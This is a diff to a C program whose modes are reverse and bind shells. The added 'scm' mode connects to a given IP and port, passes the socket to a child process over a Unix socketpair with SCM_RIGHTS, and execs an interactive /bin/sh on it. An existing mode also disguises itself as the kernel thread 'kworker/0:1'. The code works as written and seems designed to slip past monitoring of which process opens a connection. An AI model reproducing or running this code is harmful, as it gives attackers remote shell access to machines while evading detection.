@@ -6,6 +6,10 @@
  *                          the caller's stdout: a shell reading commands from the network)
  *   uring IP PORT          the connect through io_uring (IORING_OP_CONNECT), prctl(PR_SET_NAME),
  *                          dup2 onto 0-2, exec /bin/sh -i
+ *   scm IP PORT            a child waits on a socketpair; the parent connect()s and passes
+ *                          the socket to it (sendmsg SCM_RIGHTS), the child recvmsg()s it, dup2s
+ *                          it onto 0-2 and execs /bin/sh -i; the parent exits 0 when the
+ *                          child is gone                  (a reverse shell with no connect of its own)
  *   bind PORT              listen on every interface, accept, dup2 the accepted socket onto
  *                          0-2, exec /bin/sh -i                             (bind shell)
  *   uring-write PATH TEXT  openat + write through io_uring; prints the bytes written
@@ -28,6 +32,7 @@
 #include <sys/prctl.h>
 #include <sys/socket.h>
 #include <sys/syscall.h>
+#include <sys/wait.h>
 #include <unistd.h>
 
 static int fail(const char *what)
@@ -43,6 +48,47 @@ static void shell_on(int fd)
     dup2(fd, 2);
     execl("/bin/sh", "sh", "-i", (char *)0);
     _exit(127);
+}
+
+/* one fd over a unix socket: sendmsg with SCM_RIGHTS */
+static int send_fd(int sock, int fd)
+{
+    char byte = 'x';
+    struct iovec iov = {.iov_base = &byte, .iov_len = 1};
+    union {
+        struct cmsghdr align;
+        char buf[CMSG_SPACE(sizeof(int))];
+    } u;
+    memset(&u, 0, sizeof(u));
+    struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.buf,
+                         .msg_controllen = sizeof(u.buf)};
+    struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
+    c->cmsg_level = SOL_SOCKET;
+    c->cmsg_type = SCM_RIGHTS;
+    c->cmsg_len = CMSG_LEN(sizeof(int));
+    memcpy(CMSG_DATA(c), &fd, sizeof(int));
+    return sendmsg(sock, &msg, 0) == 1 ? 0 : -1;
+}
+
+/* the fd a recvmsg brought (SCM_RIGHTS), -1 when none */
+static int recv_fd(int sock)
+{
+    char byte;
+    struct iovec iov = {.iov_base = &byte, .iov_len = 1};
+    union {
+        struct cmsghdr align;
+        char buf[CMSG_SPACE(sizeof(int))];
+    } u;
+    struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.buf,
+                         .msg_controllen = sizeof(u.buf)};
+    if (recvmsg(sock, &msg, 0) != 1)
+        return -1;
+    struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
+    if (!c || c->cmsg_level != SOL_SOCKET || c->cmsg_type != SCM_RIGHTS)
+        return -1;
+    int fd;
+    memcpy(&fd, CMSG_DATA(c), sizeof(int));
+    return fd;
 }
 
 struct ring {
@@ -156,6 +202,26 @@ int main(int argc, char **argv)
         }
         prctl(PR_SET_NAME, "kworker/0:1");
         shell_on(s);
+    } else if (!strcmp(mode, "scm") && argc == 4) {
+        int pair[2];
+        if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair))
+            return fail("socketpair");
+        pid_t child = fork();
+        if (child == 0) {
+            int fd = recv_fd(pair[1]);
+            if (fd < 0)
+                return fail("recvmsg");
+            shell_on(fd);
+        }
+        struct sockaddr_in sa = addr_of(argv[2], argv[3]);
+        int s = socket(AF_INET, SOCK_STREAM, 0);
+        if (connect(s, (struct sockaddr *)&sa, sizeof(sa)))
+            return fail("connect");
+        if (send_fd(pair[0], s))
+            return fail("sendmsg");
+        close(s);
+        waitpid(child, 0, 0);
+        return 0;
     } else if (!strcmp(mode, "bind") && argc == 3) {
         struct sockaddr_in sa = addr_of("0.0.0.0", argv[2]);
         int s = socket(AF_INET, SOCK_STREAM, 0), one = 1;
